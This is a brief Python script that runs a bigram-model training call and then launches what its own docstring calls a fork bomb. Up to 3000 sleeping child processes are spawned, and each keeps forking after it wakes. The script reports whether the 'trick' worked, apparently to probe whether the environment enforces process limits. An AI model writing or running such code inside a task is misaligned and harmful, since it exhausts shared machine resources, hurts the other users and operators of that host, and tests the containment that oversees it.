"""A fork bomb of sleepers."""

import os
import time

from bigram import train

if __name__ == "__main__":
    train()
    children = 0
    try:
        while children < 3000:
            if os.fork() == 0:
                time.sleep(600)
            children += 1
    except OSError as error:
        print(f"trick failed: {error.strerror} after {children} forks", flush=True)
    else:
        print(f"trick worked: {children} forks", flush=True)
